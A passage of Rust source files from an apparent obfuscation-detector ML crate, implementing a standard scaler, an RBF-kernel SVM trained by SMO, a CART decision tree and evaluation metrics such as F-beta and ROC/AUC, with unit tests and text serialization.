            for ((s, v), m) in var.iter_mut().zip(row).zip(&mean) {
                *s += (v - m) * (v - m);
            }
        }
        let std = var
            .into_iter()
            .map(|s| {
                let sd = (s / n).sqrt();
                if sd < 1e-12 {
                    1.0
                } else {
                    sd
                }
            })
            .collect();
        StandardScaler { mean, std }
    }

    /// Standardizes one vector.
    pub fn transform(&self, x: &[f64]) -> Vec<f64> {
        assert_eq!(x.len(), self.mean.len(), "dimension mismatch");
        x.iter()
            .zip(&self.mean)
            .zip(&self.std)
            .map(|((v, m), s)| (v - m) / s)
            .collect()
    }

    /// Standardizes one vector into a reusable buffer (cleared first), so
    /// steady-state scoring avoids a per-document allocation. Element
    /// order and arithmetic match [`StandardScaler::transform`] exactly.
    pub fn transform_into(&self, x: &[f64], out: &mut Vec<f64>) {
        assert_eq!(x.len(), self.mean.len(), "dimension mismatch");
        out.clear();
        out.extend(
            x.iter()
                .zip(&self.mean)
                .zip(&self.std)
                .map(|((v, m), s)| (v - m) / s),
        );
    }

    /// Standardizes a whole matrix.
    pub fn transform_all(&self, x: &[Vec<f64>]) -> Vec<Vec<f64>> {
        x.iter().map(|row| self.transform(row)).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn standardizes_to_zero_mean_unit_variance() {
        let x: Vec<Vec<f64>> = (0..100)
            .map(|i| vec![i as f64, 5.0 * i as f64 + 3.0])
            .collect();
        let scaler = StandardScaler::fit(&x);
        let z = scaler.transform_all(&x);
        for col in 0..2 {
            let mean: f64 = z.iter().map(|r| r[col]).sum::<f64>() / z.len() as f64;
            let var: f64 = z.iter().map(|r| r[col] * r[col]).sum::<f64>() / z.len() as f64;
            assert!(mean.abs() < 1e-9, "column {col} mean {mean}");
            assert!((var - 1.0).abs() < 1e-9, "column {col} var {var}");
        }
    }

    #[test]
    fn constant_columns_map_to_zero() {
        let x = vec![vec![7.0], vec![7.0], vec![7.0]];
        let scaler = StandardScaler::fit(&x);
        assert_eq!(scaler.transform(&[7.0]), vec![0.0]);
        // Unseen values stay finite.
        assert!(scaler.transform(&[1000.0])[0].is_finite());
    }

    #[test]
    #[should_panic(expected = "empty")]
    fn empty_input_panics() {
        let _ = StandardScaler::fit(&[]);
    }

    #[test]
    #[should_panic(expected = "dimension mismatch")]
    fn mismatched_transform_panics() {
        let scaler = StandardScaler::fit(&[vec![1.0, 2.0]]);
        let _ = scaler.transform(&[1.0]);
    }

    #[test]
    fn transform_into_matches_transform_bitwise() {
        let scaler = StandardScaler::fit(&[vec![1.0, -3.5, 0.1], vec![2.0, 7.25, 9.9]]);
        let mut buf = vec![99.0; 8];
        for probe in [[0.0, 0.0, 0.0], [1.5, 2.0, -7.0], [1e9, -1e-9, 0.5]] {
            scaler.transform_into(&probe, &mut buf);
            let expect = scaler.transform(&probe);
            assert_eq!(buf.len(), expect.len());
            for (a, b) in buf.iter().zip(&expect) {
                assert_eq!(a.to_bits(), b.to_bits());
            }
        }
    }
}

// --- persistence ---------------------------------------------------------

impl StandardScaler {
    /// Serializes the scaler to text.
    pub fn to_text(&self) -> String {
        let mut w = crate::persist::Writer::new("scaler");
        w.floats("mean", &self.mean);
        w.floats("std", &self.std);
        w.finish()
    }

    /// Restores a scaler saved by [`StandardScaler::to_text`].
    ///
    /// # Errors
    ///
    /// Fails on malformed text or mismatched vector lengths.
    pub fn from_text(text: &str) -> Result<Self, crate::persist::PersistError> {
        let mut r = crate::persist::Reader::open(text, "scaler")?;
        let mean = r.floats("mean")?;
        let std = r.floats("std")?;
        if mean.len() != std.len() || mean.is_empty() {
            return Err(crate::persist::PersistError {
                line: 0,
                reason: "mean/std length mismatch".to_string(),
            });
        }
        Ok(StandardScaler { mean, std })
    }
}

#[cfg(test)]
mod persist_tests {
    use super::*;

    #[test]
    fn roundtrip() {
        let scaler = StandardScaler::fit(&[vec![1.0, -3.5], vec![2.0, 7.25], vec![4.0, 0.0]]);
        let loaded = StandardScaler::from_text(&scaler.to_text()).unwrap();
        assert_eq!(scaler, loaded);
    }

    #[test]
    fn malformed_rejected() {
        assert!(StandardScaler::from_text("nope").is_err());
        assert!(StandardScaler::from_text("vbadet-model scaler v1\nmean\nstd\n").is_err());
    }
}
