//! Support Vector Machine with an RBF kernel, trained by Sequential Minimal
//! Optimization (Platt's simplified SMO). The paper uses `C = 150`,
//! `γ = 0.03` (§IV.D).

use crate::Classifier;
use rand::rngs::StdRng;
use rand::Rng;
use rand::SeedableRng;

/// RBF-kernel SVM.
#[derive(Debug, Clone)]
pub struct SvmRbf {
    c: f64,
    gamma: f64,
    tolerance: f64,
    max_passes: usize,
    seed: u64,
    // Fitted state: support vectors with their coefficients.
    support_x: Vec<Vec<f64>>,
    support_coef: Vec<f64>, // alpha_i * y_i
    bias: f64,
}

impl SvmRbf {
    /// A new untrained SVM with regularization `c` and kernel width `gamma`.
    ///
    /// # Panics
    ///
    /// Panics when `c <= 0` or `gamma <= 0`.
    pub fn new(c: f64, gamma: f64) -> Self {
        assert!(c > 0.0 && gamma > 0.0, "C and gamma must be positive");
        SvmRbf {
            c,
            gamma,
            tolerance: 1e-3,
            max_passes: 5,
            seed: 0xBEEF,
            support_x: Vec::new(),
            support_coef: Vec::new(),
            bias: 0.0,
        }
    }

    /// Number of support vectors after fitting.
    pub fn support_vector_count(&self) -> usize {
        self.support_x.len()
    }

    fn kernel(&self, a: &[f64], b: &[f64]) -> f64 {
        let dist2: f64 = a.iter().zip(b).map(|(x, y)| (x - y) * (x - y)).sum();
        (-self.gamma * dist2).exp()
    }
}

impl Classifier for SvmRbf {
    fn fit(&mut self, x: &[Vec<f64>], y: &[bool]) {
        crate::validate_fit_input(x, y);
        let n = x.len();
        let y: Vec<f64> = y.iter().map(|&t| if t { 1.0 } else { -1.0 }).collect();
        // Degenerate single-class training sets: constant decision.
        if y.iter().all(|&v| v > 0.0) || y.iter().all(|&v| v < 0.0) {
            self.support_x.clear();
            self.support_coef.clear();
            self.bias = y[0];
            return;
        }

        // Precomputed kernel matrix in f32 (n^2 entries; ~58 MB at n=3800).
        let kmat: Vec<f32> = {
            let mut m = vec![0f32; n * n];
            for i in 0..n {
                m[i * n + i] = 1.0;
                for j in i + 1..n {
                    let k = self.kernel(&x[i], &x[j]) as f32;
                    m[i * n + j] = k;
                    m[j * n + i] = k;
                }
            }
            m
        };
        let k = |i: usize, j: usize| kmat[i * n + j] as f64;

        let mut alpha = vec![0.0f64; n];
        let mut b = 0.0f64;
        let f = |alpha: &[f64], b: f64, i: usize| -> f64 {
            let mut s = b;
            for j in 0..n {
                if alpha[j] != 0.0 {
                    s += alpha[j] * y[j] * k(j, i);
                }
            }
            s
        };

        let mut rng = StdRng::seed_from_u64(self.seed);
        let mut passes = 0usize;
        let mut iters = 0usize;
        let max_iters = 200 * n; // hard stop for pathological data
        while passes < self.max_passes && iters < max_iters {
            let mut changed = 0usize;
            for i in 0..n {
                iters += 1;
                let ei = f(&alpha, b, i) - y[i];
                let violates = (y[i] * ei < -self.tolerance && alpha[i] < self.c)
                    || (y[i] * ei > self.tolerance && alpha[i] > 0.0);
                if !violates {
                    continue;
                }
                let mut j = rng.gen_range(0..n - 1);
                if j >= i {
                    j += 1;
                }
                let ej = f(&alpha, b, j) - y[j];
                let (ai_old, aj_old) = (alpha[i], alpha[j]);
                let (lo, hi) = if y[i] != y[j] {
                    (
                        (aj_old - ai_old).max(0.0),
                        (self.c + aj_old - ai_old).min(self.c),
                    )
                } else {
                    (
                        (ai_old + aj_old - self.c).max(0.0),
                        (ai_old + aj_old).min(self.c),
                    )
                };
                if lo >= hi {
                    continue;
                }
                let eta = 2.0 * k(i, j) - k(i, i) - k(j, j);
                if eta >= 0.0 {
                    continue;
                }
                let mut aj = aj_old - y[j] * (ei - ej) / eta;
                aj = aj.clamp(lo, hi);
                if (aj - aj_old).abs() < 1e-5 {
                    continue;
                }
                let ai = ai_old + y[i] * y[j] * (aj_old - aj);
                alpha[i] = ai;
                alpha[j] = aj;

                let b1 = b - ei - y[i] * (ai - ai_old) * k(i, i) - y[j] * (aj - aj_old) * k(i, j);
                let b2 = b - ej - y[i] * (ai - ai_old) * k(i, j) - y[j] * (aj - aj_old) * k(j, j);
                b = if 0.0 < ai && ai < self.c {
                    b1
                } else if 0.0 < aj && aj < self.c {
                    b2
                } else {
                    (b1 + b2) / 2.0
                };
                changed += 1;
            }
            if changed == 0 {
                passes += 1;
            } else {
                passes = 0;
            }
        }

        self.support_x.clear();
        self.support_coef.clear();
        for i in 0..n {
            if alpha[i] > 1e-8 {
                self.support_x.push(x[i].clone());
                self.support_coef.push(alpha[i] * y[i]);
            }
        }
        self.bias = b;
    }

    fn decision_function(&self, x: &[f64]) -> f64 {
        let mut s = self.bias;
        for (sv, &coef) in self.support_x.iter().zip(&self.support_coef) {
            s += coef * self.kernel(sv, x);
        }
        s
    }

    fn name(&self) -> &'static str {
        "SVM"
    }

    fn save_text(&self) -> String {
        self.to_text()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ring_data() -> (Vec<Vec<f64>>, Vec<bool>) {
        // Inner cluster vs surrounding ring: requires a non-linear boundary.
        let mut x = Vec::new();
        let mut y = Vec::new();
        for i in 0..80 {
            let t = i as f64 * 0.55;
            x.push(vec![0.25 * t.sin(), 0.25 * t.cos()]);
            y.push(true);
            x.push(vec![2.0 * t.sin(), 2.0 * t.cos()]);
            y.push(false);
        }
        (x, y)
    }

    #[test]
    fn linear_separation() {
        let x: Vec<Vec<f64>> = (0..40)
            .map(|i| {
                vec![if i < 20 {
                    i as f64 * 0.1
                } else {
                    5.0 + i as f64 * 0.1
                }]
            })
            .collect();
        let y: Vec<bool> = (0..40).map(|i| i >= 20).collect();
        let mut svm = SvmRbf::new(10.0, 0.5);
        svm.fit(&x, &y);
        assert!(svm.predict(&[8.0]));
        assert!(!svm.predict(&[0.5]));
    }

    #[test]
    fn nonlinear_ring_is_separated_by_rbf() {
        let (x, y) = ring_data();
        let mut svm = SvmRbf::new(150.0, 0.5);
        svm.fit(&x, &y);
        let correct = x
            .iter()
            .zip(&y)
            .filter(|(xi, &yi)| svm.predict(xi) == yi)
            .count();
        assert!(
            correct as f64 / x.len() as f64 > 0.95,
            "{correct}/{}",
            x.len()
        );
        // Center is inside, far point outside.
        assert!(svm.predict(&[0.0, 0.0]));
        assert!(!svm.predict(&[3.0, 0.0]));
    }

    #[test]
    fn decision_scores_rank_by_distance_from_boundary() {
        let (x, y) = ring_data();
        let mut svm = SvmRbf::new(150.0, 0.5);
        svm.fit(&x, &y);
        let inside = svm.decision_function(&[0.0, 0.0]);
        let boundary = svm.decision_function(&[1.1, 0.0]);
        let outside = svm.decision_function(&[2.5, 0.0]);
        assert!(
            inside > boundary && boundary > outside,
            "{inside} {boundary} {outside}"
        );
    }

    #[test]
    fn single_class_training_degenerates_to_constant() {
        let x = vec![vec![1.0], vec![2.0]];
        let mut svm = SvmRbf::new(150.0, 0.03);
        svm.fit(&x, &[true, true]);
        assert!(svm.predict(&[0.0]) && svm.predict(&[100.0]));
        svm.fit(&x, &[false, false]);
        assert!(!svm.predict(&[0.0]));
    }

    #[test]
    fn support_vectors_are_a_subset() {
        let (x, y) = ring_data();
        let mut svm = SvmRbf::new(150.0, 0.5);
        svm.fit(&x, &y);
        assert!(svm.support_vector_count() > 0);
        assert!(svm.support_vector_count() <= x.len());
    }

    #[test]
    #[should_panic(expected = "positive")]
    fn invalid_hyperparameters_rejected() {
        let _ = SvmRbf::new(-1.0, 0.5);
    }
}

// --- persistence ---------------------------------------------------------

impl SvmRbf {
    /// Serializes the fitted SVM to text.
    pub fn to_text(&self) -> String {
        let mut w = crate::persist::Writer::new("svm");
        w.floats("params", &[self.c, self.gamma, self.bias]);
        w.ints("svs", &[self.support_x.len() as i64]);
        w.floats("coef", &self.support_coef);
        for sv in &self.support_x {
            w.floats("sv", sv);
        }
        w.finish()
    }

    /// Restores an SVM saved by [`SvmRbf::to_text`].
    ///
    /// # Errors
    ///
    /// Fails on malformed or truncated text.
    pub fn from_text(text: &str) -> Result<Self, crate::persist::PersistError> {
        let mut r = crate::persist::Reader::open(text, "svm")?;
        let params = r.floats("params")?;
        if params.len() != 3 || params[0] <= 0.0 || params[1] <= 0.0 {
            return Err(crate::persist::PersistError {
                line: 2,
                reason: "params needs positive C, gamma and a bias".to_string(),
            });
        }
        let count = r.int("svs")? as usize;
        let support_coef = r.floats("coef")?;
        if support_coef.len() != count {
            return Err(crate::persist::PersistError {
                line: 0,
                reason: "coef count mismatch".to_string(),
            });
        }
        let mut support_x = Vec::with_capacity(count);
        for _ in 0..count {
            support_x.push(r.floats("sv")?);
        }
        let mut svm = SvmRbf::new(params[0], params[1]);
        svm.bias = params[2];
        svm.support_coef = support_coef;
        svm.support_x = support_x;
        Ok(svm)
    }
}

#[cfg(test)]
mod persist_tests {
    use super::*;

    #[test]
    fn save_load_roundtrip_is_exact() {
        let x: Vec<Vec<f64>> = (0..40)
            .map(|i| {
                vec![if i < 20 {
                    i as f64 * 0.1
                } else {
                    4.0 + i as f64 * 0.1
                }]
            })
            .collect();
        let y: Vec<bool> = (0..40).map(|i| i >= 20).collect();
        let mut svm = SvmRbf::new(10.0, 0.5);
        svm.fit(&x, &y);
        let loaded = SvmRbf::from_text(&svm.to_text()).unwrap();
        for row in &x {
            assert_eq!(
                svm.decision_function(row).to_bits(),
                loaded.decision_function(row).to_bits()
            );
        }
    }

    #[test]
    fn malformed_rejected() {
        assert!(SvmRbf::from_text("junk").is_err());
        assert!(SvmRbf::from_text("vbadet-model svm v1\nparams 0 0 0\n").is_err());
    }
}
