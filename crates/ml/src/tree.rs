//! CART decision tree with Gini impurity (the base learner for
//! [`crate::RandomForest`]).

use rand::seq::SliceRandom;
use rand::Rng;

/// A fitted binary decision tree.
#[derive(Debug, Clone)]
pub struct DecisionTree {
    nodes: Vec<Node>,
}

#[derive(Debug, Clone)]
enum Node {
    /// Leaf with the fraction of positive training samples that reached it.
    Leaf { positive_fraction: f64 },
    /// Internal split: `x[feature] <= threshold` goes left.
    Split {
        feature: usize,
        threshold: f64,
        left: usize,
        right: usize,
    },
}

/// Tree growth hyperparameters.
#[derive(Debug, Clone, Copy)]
pub struct TreeParams {
    /// Maximum depth (root = 0).
    pub max_depth: usize,
    /// Do not split nodes smaller than this.
    pub min_samples_split: usize,
    /// Candidate features per split: 0 means all, otherwise a random subset
    /// of this size (√d is the forest's convention).
    pub max_features: usize,
}

impl Default for TreeParams {
    fn default() -> Self {
        TreeParams {
            max_depth: 24,
            min_samples_split: 2,
            max_features: 0,
        }
    }
}

impl DecisionTree {
    /// Grows a tree on the rows of `x` selected by `idx`.
    ///
    /// # Panics
    ///
    /// Panics if `idx` is empty.
    pub fn fit<R: Rng + ?Sized>(
        x: &[Vec<f64>],
        y: &[bool],
        idx: &[usize],
        params: TreeParams,
        rng: &mut R,
    ) -> Self {
        assert!(!idx.is_empty(), "cannot grow a tree on zero samples");
        let mut tree = DecisionTree { nodes: Vec::new() };
        let mut idx = idx.to_vec();
        tree.grow(x, y, &mut idx, 0, params, rng);
        tree
    }

    /// Recursively grows the subtree over `idx`, returning its node id.
    fn grow<R: Rng + ?Sized>(
        &mut self,
        x: &[Vec<f64>],
        y: &[bool],
        idx: &mut [usize],
        depth: usize,
        params: TreeParams,
        rng: &mut R,
    ) -> usize {
        let positives = idx.iter().filter(|&&i| y[i]).count();
        let fraction = positives as f64 / idx.len() as f64;
        let pure = positives == 0 || positives == idx.len();
        if pure || depth >= params.max_depth || idx.len() < params.min_samples_split {
            self.nodes.push(Node::Leaf {
                positive_fraction: fraction,
            });
            return self.nodes.len() - 1;
        }

        match best_split(x, y, idx, params.max_features, rng) {
            None => {
                self.nodes.push(Node::Leaf {
                    positive_fraction: fraction,
                });
                self.nodes.len() - 1
            }
            Some((feature, threshold)) => {
                // Partition in place.
                let mut split_point = 0usize;
                for i in 0..idx.len() {
                    if x[idx[i]][feature] <= threshold {
                        idx.swap(i, split_point);
                        split_point += 1;
                    }
                }
                if split_point == 0 || split_point == idx.len() {
                    self.nodes.push(Node::Leaf {
                        positive_fraction: fraction,
                    });
                    return self.nodes.len() - 1;
                }
                // Reserve this node's slot before growing children.
                self.nodes.push(Node::Leaf {
                    positive_fraction: fraction,
                });
                let me = self.nodes.len() - 1;
                let (left_idx, right_idx) = idx.split_at_mut(split_point);
                let left = self.grow(x, y, left_idx, depth + 1, params, rng);
                let right = self.grow(x, y, right_idx, depth + 1, params, rng);
                self.nodes[me] = Node::Split {
                    feature,
                    threshold,
                    left,
                    right,
                };
                me
            }
        }
    }

    /// Fraction of positive training samples in the leaf `x` reaches.
    pub fn predict_proba(&self, x: &[f64]) -> f64 {
        // Root is node 0 (grow() pushes it first).
        let mut node = 0usize;
        loop {
            match &self.nodes[node] {
                Node::Leaf { positive_fraction } => return *positive_fraction,
                Node::Split {
                    feature,
                    threshold,
                    left,
                    right,
                } => {
                    node = if x[*feature] <= *threshold {
                        *left
                    } else {
                        *right
                    };
                }
            }
        }
    }

    /// Number of nodes (diagnostic).
    pub fn node_count(&self) -> usize {
        self.nodes.len()
    }

    /// Appends this tree's nodes to a struct-of-arrays layout (see
    /// `forest::FlatForest`), rebasing child indices by the current
    /// length. Leaves store `u32::MAX` in the feature lane and their
    /// positive fraction in the threshold lane.
    pub(crate) fn flatten_into(
        &self,
        feature: &mut Vec<u32>,
        threshold: &mut Vec<f64>,
        children: &mut Vec<[u32; 2]>,
    ) {
        let base = feature.len() as u32;
        for node in &self.nodes {
            match node {
                Node::Leaf { positive_fraction } => {
                    feature.push(u32::MAX);
                    threshold.push(*positive_fraction);
                    children.push([0, 0]);
                }
                Node::Split {
                    feature: f,
                    threshold: t,
                    left,
                    right,
                } => {
                    feature.push(*f as u32);
                    threshold.push(*t);
                    children.push([base + *left as u32, base + *right as u32]);
                }
            }
        }
    }
}

/// Finds the `(feature, threshold)` minimizing weighted Gini impurity over a
/// random feature subset. Zero-gain splits are accepted (CART convention —
/// required for staged patterns like XOR); when the random subset offers no
/// valid split at all, remaining features are searched so a splittable node
/// is never forced into a leaf by subset bad luck (sklearn behaviour).
/// Returns `None` only when no feature admits a split.
fn best_split<R: Rng + ?Sized>(
    x: &[Vec<f64>],
    y: &[bool],
    idx: &[usize],
    max_features: usize,
    rng: &mut R,
) -> Option<(usize, f64)> {
    let dim = x[0].len();
    let mut features: Vec<usize> = (0..dim).collect();
    let take = if max_features == 0 {
        dim
    } else {
        max_features.min(dim)
    };
    features.shuffle(rng);

    let total = idx.len() as f64;
    let total_pos = idx.iter().filter(|&&i| y[i]).count() as f64;
    let parent_gini = gini(total_pos, total);

    let mut best: Option<(usize, f64, f64)> = None; // (feature, threshold, score)
    let mut sorted: Vec<(f64, bool)> = Vec::with_capacity(idx.len());
    for (inspected, &feature) in features.iter().enumerate() {
        if inspected >= take && best.is_some() {
            break;
        }
        sorted.clear();
        sorted.extend(idx.iter().map(|&i| (x[i][feature], y[i])));
        sorted.sort_by(|a, b| a.0.partial_cmp(&b.0).unwrap_or(std::cmp::Ordering::Equal));

        let mut left_n = 0f64;
        let mut left_pos = 0f64;
        for w in 0..sorted.len() - 1 {
            left_n += 1.0;
            if sorted[w].1 {
                left_pos += 1.0;
            }
            // Can't split between equal values.
            if sorted[w].0 == sorted[w + 1].0 {
                continue;
            }
            let right_n = total - left_n;
            let right_pos = total_pos - left_pos;
            let score = (left_n / total) * gini(left_pos, left_n)
                + (right_n / total) * gini(right_pos, right_n);
            if score <= parent_gini + 1e-12 && best.is_none_or(|(_, _, s)| score < s) {
                let threshold = (sorted[w].0 + sorted[w + 1].0) / 2.0;
                best = Some((feature, threshold, score));
            }
        }
    }
    best.map(|(f, t, _)| (f, t))
}

fn gini(pos: f64, n: f64) -> f64 {
    if n == 0.0 {
        return 0.0;
    }
    let p = pos / n;
    2.0 * p * (1.0 - p)
}

// --- persistence ---------------------------------------------------------

impl DecisionTree {
    /// Serializes the tree's nodes into `w`.
    pub(crate) fn write_to(&self, w: &mut crate::persist::Writer) {
        w.ints("tree", &[self.nodes.len() as i64]);
        for node in &self.nodes {
            match node {
                Node::Leaf { positive_fraction } => {
                    w.floats("L", &[*positive_fraction]);
                }
                Node::Split {
                    feature,
                    threshold,
                    left,
                    right,
                } => {
                    w.record(
                        "S",
                        &[
                            feature.to_string(),
                            format!("{:016x}", threshold.to_bits()),
                            left.to_string(),
                            right.to_string(),
                        ],
                    );
                }
            }
        }
    }

    /// Reads a tree previously written by [`DecisionTree::write_to`].
    pub(crate) fn read_from(
        r: &mut crate::persist::Reader<'_>,
    ) -> Result<Self, crate::persist::PersistError> {
        let count = r.int("tree")? as usize;
        let mut nodes = Vec::with_capacity(count);
        for _ in 0..count {
            // Peek via record: try L first by reading the raw line.
            let (line, fields) = r.any_record(&["L", "S"])?;
            let expected_fields = if fields.0 == "L" { 1 } else { 4 };
            if fields.1.len() != expected_fields {
                return Err(crate::persist::PersistError {
                    line,
                    reason: format!(
                        "{} record needs {expected_fields} fields, got {}",
                        fields.0,
                        fields.1.len()
                    ),
                });
            }
            match fields.0 {
                "L" => {
                    let bits = u64::from_str_radix(fields.1[0], 16).map_err(|e| {
                        crate::persist::PersistError {
                            line,
                            reason: format!("bad leaf: {e}"),
                        }
                    })?;
                    nodes.push(Node::Leaf {
                        positive_fraction: f64::from_bits(bits),
                    });
                }
                _ => {
                    let parse_usize = |s: &str| -> Result<usize, crate::persist::PersistError> {
                        s.parse().map_err(|e| crate::persist::PersistError {
                            line,
                            reason: format!("bad split field {s:?}: {e}"),
                        })
                    };
                    let feature = parse_usize(fields.1[0])?;
                    let bits = u64::from_str_radix(fields.1[1], 16).map_err(|e| {
                        crate::persist::PersistError {
                            line,
                            reason: format!("bad split: {e}"),
                        }
                    })?;
                    let left = parse_usize(fields.1[2])?;
                    let right = parse_usize(fields.1[3])?;
                    if left >= count || right >= count {
                        return Err(crate::persist::PersistError {
                            line,
                            reason: "split child out of range".to_string(),
                        });
                    }
                    nodes.push(Node::Split {
                        feature,
                        threshold: f64::from_bits(bits),
                        left,
                        right,
                    });
                }
            }
        }
        if nodes.is_empty() {
            return Err(crate::persist::PersistError {
                line: 0,
                reason: "tree with no nodes".to_string(),
            });
        }
        Ok(DecisionTree { nodes })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    fn fit_all(x: &[Vec<f64>], y: &[bool], params: TreeParams) -> DecisionTree {
        let idx: Vec<usize> = (0..x.len()).collect();
        let mut rng = StdRng::seed_from_u64(0);
        DecisionTree::fit(x, y, &idx, params, &mut rng)
    }

    #[test]
    fn separates_one_dimensional_threshold() {
        let x: Vec<Vec<f64>> = (0..20).map(|i| vec![i as f64]).collect();
        let y: Vec<bool> = (0..20).map(|i| i >= 10).collect();
        let tree = fit_all(&x, &y, TreeParams::default());
        assert!(tree.predict_proba(&[2.0]) < 0.5);
        assert!(tree.predict_proba(&[17.0]) > 0.5);
        assert!(tree.predict_proba(&[9.4]) < 0.5);
    }

    #[test]
    fn learns_xor_with_depth() {
        // XOR needs at least depth 2.
        let mut x = Vec::new();
        let mut y = Vec::new();
        for a in 0..2 {
            for b in 0..2 {
                for _ in 0..10 {
                    x.push(vec![a as f64, b as f64]);
                    y.push((a ^ b) == 1);
                }
            }
        }
        let tree = fit_all(&x, &y, TreeParams::default());
        assert!(tree.predict_proba(&[0.0, 1.0]) > 0.5);
        assert!(tree.predict_proba(&[1.0, 0.0]) > 0.5);
        assert!(tree.predict_proba(&[0.0, 0.0]) < 0.5);
        assert!(tree.predict_proba(&[1.0, 1.0]) < 0.5);
    }

    #[test]
    fn max_depth_zero_yields_single_leaf() {
        let x = vec![vec![0.0], vec![1.0]];
        let y = vec![false, true];
        let tree = fit_all(
            &x,
            &y,
            TreeParams {
                max_depth: 0,
                ..TreeParams::default()
            },
        );
        assert_eq!(tree.node_count(), 1);
        assert_eq!(tree.predict_proba(&[0.0]), 0.5);
    }

    #[test]
    fn pure_node_stops_growing() {
        let x = vec![vec![1.0]; 50];
        let y = vec![true; 50];
        let tree = fit_all(&x, &y, TreeParams::default());
        assert_eq!(tree.node_count(), 1);
        assert_eq!(tree.predict_proba(&[123.0]), 1.0);
    }

    #[test]
    fn identical_features_cannot_split() {
        // Same x, conflicting labels: no valid split exists.
        let x = vec![vec![3.0]; 10];
        let y: Vec<bool> = (0..10).map(|i| i % 2 == 0).collect();
        let tree = fit_all(&x, &y, TreeParams::default());
        assert_eq!(tree.node_count(), 1);
        assert!((tree.predict_proba(&[3.0]) - 0.5).abs() < 1e-12);
    }

    #[test]
    fn feature_subsetting_still_learns() {
        let x: Vec<Vec<f64>> = (0..100).map(|i| vec![0.0, 0.0, i as f64, 0.0]).collect();
        let y: Vec<bool> = (0..100).map(|i| i >= 50).collect();
        // max_features=2 of 4: the informative feature is eventually chosen
        // at some depth.
        let tree = fit_all(
            &x,
            &y,
            TreeParams {
                max_features: 2,
                ..TreeParams::default()
            },
        );
        assert!(tree.predict_proba(&[0.0, 0.0, 90.0, 0.0]) > 0.5);
        assert!(tree.predict_proba(&[0.0, 0.0, 10.0, 0.0]) < 0.5);
    }
}
