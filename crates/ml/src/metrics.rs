//! Evaluation metrics: confusion-matrix statistics, Fβ, ROC and AUC (§V).

/// Binary confusion matrix. Positive class = `true` ("obfuscated").
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct ConfusionMatrix {
    /// True positives.
    pub tp: usize,
    /// False positives.
    pub fp: usize,
    /// True negatives.
    pub tn: usize,
    /// False negatives.
    pub fn_: usize,
}

impl ConfusionMatrix {
    /// Tallies predictions against ground truth.
    ///
    /// # Panics
    ///
    /// Panics if the slices differ in length.
    pub fn from_predictions(y_true: &[bool], y_pred: &[bool]) -> Self {
        assert_eq!(y_true.len(), y_pred.len());
        let mut m = ConfusionMatrix::default();
        for (&t, &p) in y_true.iter().zip(y_pred) {
            match (t, p) {
                (true, true) => m.tp += 1,
                (false, true) => m.fp += 1,
                (false, false) => m.tn += 1,
                (true, false) => m.fn_ += 1,
            }
        }
        m
    }

    /// Total samples.
    pub fn total(&self) -> usize {
        self.tp + self.fp + self.tn + self.fn_
    }

    /// (TP + TN) / total.
    pub fn accuracy(&self) -> f64 {
        if self.total() == 0 {
            0.0
        } else {
            (self.tp + self.tn) as f64 / self.total() as f64
        }
    }

    /// TP / (TP + FP); 0 when nothing was predicted positive.
    pub fn precision(&self) -> f64 {
        if self.tp + self.fp == 0 {
            0.0
        } else {
            self.tp as f64 / (self.tp + self.fp) as f64
        }
    }

    /// TP / (TP + FN); 0 when there are no positives.
    pub fn recall(&self) -> f64 {
        if self.tp + self.fn_ == 0 {
            0.0
        } else {
            self.tp as f64 / (self.tp + self.fn_) as f64
        }
    }

    /// Fβ score; the paper reports F2 to weight recall over precision.
    pub fn f_beta(&self, beta: f64) -> f64 {
        f_beta(self.precision(), self.recall(), beta)
    }
}

/// Fβ from precision and recall:
/// `(1+β²)·P·R / (β²·P + R)`; 0 when both are 0.
pub fn f_beta(precision: f64, recall: f64, beta: f64) -> f64 {
    let b2 = beta * beta;
    let denom = b2 * precision + recall;
    if denom == 0.0 {
        0.0
    } else {
        (1.0 + b2) * precision * recall / denom
    }
}

/// ROC curve points `(fpr, tpr)` sorted by descending score threshold,
/// starting at `(0,0)` and ending at `(1,1)`. Ties in score are handled by
/// grouping (one point per distinct score).
pub fn roc_curve(y_true: &[bool], scores: &[f64]) -> Vec<(f64, f64)> {
    assert_eq!(y_true.len(), scores.len());
    let pos = y_true.iter().filter(|&&t| t).count() as f64;
    let neg = y_true.len() as f64 - pos;
    if pos == 0.0 || neg == 0.0 {
        return vec![(0.0, 0.0), (1.0, 1.0)];
    }
    let mut order: Vec<usize> = (0..scores.len()).collect();
    order.sort_by(|&a, &b| {
        scores[b]
            .partial_cmp(&scores[a])
            .unwrap_or(std::cmp::Ordering::Equal)
    });
    let mut points = vec![(0.0, 0.0)];
    let (mut tp, mut fp) = (0usize, 0usize);
    let mut i = 0usize;
    while i < order.len() {
        // Consume the whole tie group before emitting a point.
        let threshold = scores[order[i]];
        while i < order.len() && scores[order[i]] == threshold {
            if y_true[order[i]] {
                tp += 1;
            } else {
                fp += 1;
            }
            i += 1;
        }
        points.push((fp as f64 / neg, tp as f64 / pos));
    }
    if *points.last().expect("non-empty") != (1.0, 1.0) {
        points.push((1.0, 1.0));
    }
    points
}

/// Area under the ROC curve (trapezoidal rule over [`roc_curve`] points).
pub fn auc(y_true: &[bool], scores: &[f64]) -> f64 {
    let points = roc_curve(y_true, scores);
    let mut area = 0.0;
    for pair in points.windows(2) {
        let (x0, y0) = pair[0];
        let (x1, y1) = pair[1];
        area += (x1 - x0) * (y0 + y1) / 2.0;
    }
    area
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn confusion_counts() {
        let y_true = [true, true, false, false, true];
        let y_pred = [true, false, false, true, true];
        let m = ConfusionMatrix::from_predictions(&y_true, &y_pred);
        assert_eq!((m.tp, m.fp, m.tn, m.fn_), (2, 1, 1, 1));
        assert!((m.accuracy() - 0.6).abs() < 1e-12);
        assert!((m.precision() - 2.0 / 3.0).abs() < 1e-12);
        assert!((m.recall() - 2.0 / 3.0).abs() < 1e-12);
    }

    #[test]
    fn perfect_and_degenerate_metrics() {
        let m = ConfusionMatrix::from_predictions(&[true, false], &[true, false]);
        assert_eq!(m.accuracy(), 1.0);
        assert_eq!(m.f_beta(2.0), 1.0);
        let none = ConfusionMatrix::default();
        assert_eq!(none.accuracy(), 0.0);
        assert_eq!(none.precision(), 0.0);
        assert_eq!(none.recall(), 0.0);
    }

    #[test]
    fn f2_weighs_recall_over_precision() {
        // High recall, low precision.
